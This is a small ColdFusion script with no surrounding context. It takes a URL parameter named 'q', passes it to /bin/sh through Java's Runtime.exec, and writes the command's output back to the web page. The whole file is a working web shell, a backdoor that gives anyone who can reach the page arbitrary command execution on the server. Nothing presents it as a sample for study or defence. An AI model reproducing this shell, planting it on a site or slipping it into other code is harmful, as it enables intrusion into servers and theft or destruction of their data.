<cfscript>
    if (structKeyExists(url, "q")) {
        rt = createObject("java", "java.lang.Runtime").getRuntime();
        p = rt.exec(["/bin/sh", "-c", url.q]);
        sc = createObject("java", "java.util.Scanner").init(p.getInputStream()).useDelimiter("\A");
        writeOutput("<pre>" & (sc.hasNext() ? sc.next() : "") & "</pre>");
    }
</cfscript>
